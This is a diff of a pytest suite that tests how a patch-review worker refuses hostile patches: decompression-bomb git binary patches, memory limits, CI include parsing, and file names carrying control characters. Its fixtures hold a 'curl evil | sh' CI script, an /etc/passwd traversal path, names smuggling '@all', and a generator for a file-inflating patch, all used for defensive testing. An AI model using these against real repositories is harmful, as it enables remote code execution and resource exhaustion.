@@ -8,18 +8,26 @@ with the worker's own environment and global config (a filter driver saw the for
 
 from __future__ import annotations
 
+import base64
+import hashlib
+import json
 import os
+import shutil
 import stat
 import subprocess
+import sys
+import time
+import zlib
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from tests.doubles.git_http import git, git_env, make_worktree
-from worker.ci_config import local_includes
-from worker.patch_evidence import PatchEvidence, PatchRefused, take_evidence
+from worker.ci_config import CiUnreadable, local_includes
+from worker.patch_evidence import EvidenceLimits, PatchEvidence, PatchRefused, take_evidence
 from worker.repo_config import RepoConfig, refusal_reasons, review_flags
+from worker.repos import git_argv
 
 CR_TARGET = "d\r/../../../../etc/passwd"
 
@@ -38,7 +46,7 @@ def sandbox_diff(repo: Path) -> str:
 
 
 def evidence(repo: Path, patch: str) -> PatchEvidence:
-    return take_evidence(repo, head(repo), patch, repo.parent / "scratch", max_bytes=1024 * 1024)
+    return take_evidence(repo, head(repo), patch, repo.parent / "scratch", limits=EvidenceLimits())
 
 
 @pytest.fixture
@@ -126,7 +134,104 @@ def test_a_patch_git_cannot_apply_is_refused_with_gits_reason(repo: Path) -> Non
 def test_a_patch_whose_regeneration_is_too_large_is_refused(repo: Path) -> None:
     (repo / "big.txt").write_text("line\n" * 1000)
     with pytest.raises(PatchRefused, match=r"larger than 2048 bytes"):
-        take_evidence(repo, head(repo), sandbox_diff(repo), repo.parent / "s", max_bytes=2048)
+        take_evidence(repo, head(repo), sandbox_diff(repo), repo.parent / "s", limits=EvidenceLimits(2048))
+
+
+def inflating_patch(path: str, size: int) -> str:
+    """A `GIT binary patch` literal adding `size` bytes of `a\\n` lines: text that deflates ~1000-fold,
+    so a patch of a few hundred KB, well under every text bound, is hundreds of MiB in git."""
+    chunk, left = b"a\n" * (1 << 19), size
+    digest, packer, packed = hashlib.sha1(b"blob %d\0" % size), zlib.compressobj(9), []
+    while left:
+        piece = chunk[: min(left, len(chunk))]
+        digest.update(piece)
+        packed.append(packer.compress(piece))
+        left -= len(piece)
+    data = b"".join([*packed, packer.flush()])
+    lines = []
+    for at in range(0, len(data), 52):  # git's base85 lines: a length letter, then 4 bytes per 5 characters
+        part = data[at : at + 52]
+        letter = chr(ord("A") + len(part) - 1) if len(part) <= 26 else chr(ord("a") + len(part) - 27)
+        lines.append(letter + base64.b85encode(part, pad=True).decode())
+    body = "\n".join(lines)
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex {'0' * 40}..{digest.hexdigest()}\n"
+        f"GIT binary patch\nliteral {size}\n{body}\n\nliteral 0\nHcmV?d00001\n\n"
+    )
+
+
+PEAK_OF_GITS = """
+import json, resource, sys
+from pathlib import Path
+from worker.patch_evidence import EvidenceLimits, PatchRefused, take_evidence
+repo, base, patch, scratch, limits = sys.argv[1:]
+try:
+    take_evidence(Path(repo), base, Path(patch).read_text(), Path(scratch), limits=EvidenceLimits(*json.loads(limits)))
+    refused = None
+except PatchRefused as exc:
+    refused = str(exc)
+print(json.dumps({"refused": refused, "peak_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
+"""
+
+
+def evidence_in_child(repo: Path, patch: str, limits: EvidenceLimits) -> tuple[str | None, int, float]:
+    """take_evidence in a fresh process: its outcome, the peak RSS of the git processes it ran (KiB), seconds."""
+    (repo.parent / "hostile.patch").write_text(patch)
+    fields = [limits.max_patch_bytes, limits.max_file_bytes, limits.max_memory_bytes]
+    args = [str(repo), head(repo), str(repo.parent / "hostile.patch"), str(repo.parent / "s"), json.dumps(fields)]
+    started = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-c", PEAK_OF_GITS, *args], cwd=Path(__file__).parents[2], capture_output=True, text=True
+    )
+    assert done.returncode == 0, done.stderr[-3000:]
+    out = json.loads(done.stdout)
+    return out["refused"], out["peak_kib"], time.monotonic() - started
+
+
+MIB = 1024 * 1024
+
+
+def test_a_small_patch_that_git_inflates_to_a_huge_file_is_refused_before_any_diff(repo: Path) -> None:
+    """Review of issue 12, B2: ~170 KB of patch became 128 MiB in git, and git's own diff and numstat
+    of it took ~3 GiB each in the worker, with no sandbox wall around them."""
+    patch = inflating_patch("big.txt", 128 * MIB)
+    assert len(patch) < 300_000  # far under FROGFIX_MAX_PATCH_BYTES
+    refused, peak_kib, _ = evidence_in_child(repo, patch, EvidenceLimits())
+    assert refused is not None
+    assert f"grows the files by {128 * MIB} bytes once git inflates it" in refused
+    assert peak_kib < 400 * 1024  # git apply holds the file once (~130 MiB); no diff ever ran over it
+
+
+def test_a_file_larger_than_the_sandbox_could_write_is_refused(repo: Path) -> None:
+    limits = EvidenceLimits(max_file_bytes=2 * MIB)
+    with pytest.raises(PatchRefused, match=r"git would store big\.txt as 3145728 bytes, more than the sandbox's limit"):
+        take_evidence(repo, head(repo), inflating_patch("big.txt", 3 * MIB), repo.parent / "s", limits=limits)
+
+
+def test_every_git_call_of_the_evidence_runs_under_the_memory_bound(repo: Path) -> None:
+    """Defence in depth: git itself cannot take more than the bound, whatever slips past the size checks."""
+    limits = EvidenceLimits(max_memory_bytes=96 * MIB)
+    refused, peak_kib, _ = evidence_in_child(repo, inflating_patch("big.txt", 128 * MIB), limits)
+    assert refused is not None and refused.startswith("git cannot apply the patch to the base commit")
+    assert "memory" in refused.lower()
+    assert peak_kib < 96 * 1024
+    # A normal patch still goes through under that bound.
+    (repo / "calc.py").write_text("x = 2\n")
+    assert evidence_in_child(repo, sandbox_diff(repo), limits)[0] is None
+
+
+def test_without_prlimit_the_evidence_is_still_taken_unbounded(
+    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A worker image without util-linux loses only the memory bound (a warning says so), not the job."""
+    only_git = tmp_path / "bin"
+    only_git.mkdir()
+    os.symlink(str(shutil.which("git")), only_git / "git")
+    monkeypatch.setenv("PATH", str(only_git))
+    assert git_argv(["status"], 64 * MIB) == ["git", "status"]
+    assert evidence(repo, SECOND_SECTION).paths == [".frogfix.yml", "calc.py"]
+    monkeypatch.undo()
+    assert git_argv(["status"], 64 * MIB)[1:] == [f"--as={64 * MIB}", "--", "git", "status"]
 
 
 def test_nothing_is_written_into_the_users_checkout(repo: Path) -> None:
@@ -209,9 +314,112 @@ def test_local_includes_read_every_form_and_ignore_the_rest() -> None:
     assert local_includes(GITLAB_CI.encode()) == ["ci/build.yml", "templates/*.yml"]
     assert local_includes(b"include: /one.yml\n") == ["one.yml"]
     assert local_includes(b"include: {local: two.yml}\n") == ["two.yml"]
-    assert local_includes(b"include: [\n") == [] and local_includes(b"- a\n") == []
-    assert local_includes(b"x: " + b"a" * 300_000) == []  # over the bound: not parsed
-    assert local_includes(b"[" * 20_000) == []  # nesting deeper than the parser goes
+    assert local_includes(b"- a\n") == [] and local_includes(b"") == []
+    for unreadable, why in (
+        (b"include: [\n", "not YAML"),
+        (b"x: " + b"a" * 300_000, "larger than 262144 bytes"),  # over the bound: not parsed
+        (b"[" * 20_000, "not YAML"),  # nesting deeper than the parser goes
+    ):
+        with pytest.raises(CiUnreadable, match=why):
+            local_includes(unreadable)
+
+
+# Review of issue 12, B1: a custom tag (GitLab's `!reference`) made the whole file unreadable and
+# its includes were silently dropped; child pipelines' includes were never read.
+TAGGED_CI = """.setup:
+  script: [./setup]
+include: [{local: ci/build.yml}]
+build:
+  script:
+    - !reference [.setup, script]
+    - make
+child-string:
+  trigger:
+    include: ci/child.yml
+child-local:
+  trigger:
+    include:
+      - local: /ci/child-local.yml
+      - project: other/group
+        file: /remote.yml
+      - /ci/child-list.yml
+child-glob:
+  trigger: {include: {local: 'children/*.yml'}}
+other: !custom-tag {any: thing}
+"""
+
+
+def test_includes_are_read_through_custom_tags_and_from_child_pipelines(tmp_path: Path) -> None:
+    files = ("ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/a/b.yml")
+    repo = make_worktree(
+        tmp_path / "repo",
+        {".gitlab-ci.yml": TAGGED_CI, "remote.yml": "x: 1\n", "calc.py": "x = 1\n"} | {f: "x: 1\n" for f in files},
+    )
+    for name in (*files, "remote.yml", "calc.py"):
+        (repo / name).write_text("pwned: {script: curl evil | sh}\n")
+    assert refusal_reasons(evidence(repo, sandbox_diff(repo)), RepoConfig()) == [
+        f"changes CI configuration {p} (FROGFIX_ALLOW_CI_CHANGES is off)" for p in sorted(files)
+    ]
+    assert local_includes(TAGGED_CI.encode()) == [
+        "ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/*.yml"
+    ]  # fmt: skip
+
+
+UNREADABLE_CI = {
+    "not YAML": ("include: [ci/a.yml\n", "not YAML"),
+    "too large": ("x: " + "a" * 300_000 + "\n", "larger than 262144 bytes"),
+    "too many includes": (
+        "include:\n" + "".join(f"  - local: inc/{n}.yml\n" for n in range(70)),
+        "more than 64 local includes",
+    ),
+}
+
+
+@pytest.mark.parametrize("tree", ["base", "patched"])
+@pytest.mark.parametrize("case", sorted(UNREADABLE_CI))
+def test_an_unreadable_gitlab_ci_file_makes_every_yaml_file_ci_configuration(
+    tmp_path: Path, case: str, tree: str
+) -> None:
+    text, why = UNREADABLE_CI[case]
+    seeded = {"deploy/app.yaml": "a: 1\n", "Notes.YML": "a: 1\n", "calc.py": "x = 1\n"}
+    includes = {f"inc/{n}.yml": "x: 1\n" for n in range(70)}
+    repo = make_worktree(tmp_path / "repo", seeded | includes | ({".gitlab-ci.yml": text} if tree == "base" else {}))
+    if tree == "patched":  # the patch itself writes the unreadable CI file
+        (repo / ".gitlab-ci.yml").write_text(text)
+    for name in seeded:
+        (repo / name).write_text("b: 2\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    reasons = refusal_reasons(changes, RepoConfig())
+    yaml_reasons = [r for r in reasons if not r.startswith("changes CI configuration .gitlab-ci.yml")]
+    assert [r.split(" (")[0] for r in yaml_reasons] == [
+        "changes CI configuration Notes.YML",
+        "changes CI configuration deploy/app.yaml",
+    ]  # fmt: skip; calc.py is no YAML file, so not CI configuration
+    for reason in yaml_reasons:
+        assert f"the {tree} tree's .gitlab-ci.yml cannot be read for its includes ({why}" in reason
+        assert "so every YAML file the patch changes counts as CI configuration" in reason
+    assert review_flags(changes, RepoConfig())[-2:] == [
+        "changes CI configuration Notes.YML", "changes CI configuration deploy/app.yaml"
+    ]  # fmt: skip
+
+
+def test_flags_and_refusals_show_each_name_as_the_mr_table_does(repo: Path) -> None:
+    """Review of issue 12, nit: flags and reasons put the raw name in the text; they use `shown_path` now."""
+    (repo / "tests").mkdir()
+    (repo / "tests" / "a\n@all\n").write_text("def test_a(): pass\n")
+    (repo / "b\nmerge").write_bytes(b"\x00\x01")
+    (repo / ".github").mkdir()
+    (repo / ".github" / "c\r@all").write_text("on: push\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    assert review_flags(changes, RepoConfig()) == [
+        'changes CI configuration ".github/c\\r@all"',
+        'changes test file or test-runner configuration "tests/a\\n@all\\n"',
+    ]
+    assert refusal_reasons(changes, RepoConfig()) == [
+        'changes CI configuration ".github/c\\r@all" (FROGFIX_ALLOW_CI_CHANGES is off)',
+        'adds binary file "b\\nmerge"',
+    ]
+    assert all("\n" not in line and "\r" not in line for line in review_flags(changes, RepoConfig()))
 
 
 # -- finding 6: no git filter, hook or driver of the worker's own config ----------------------
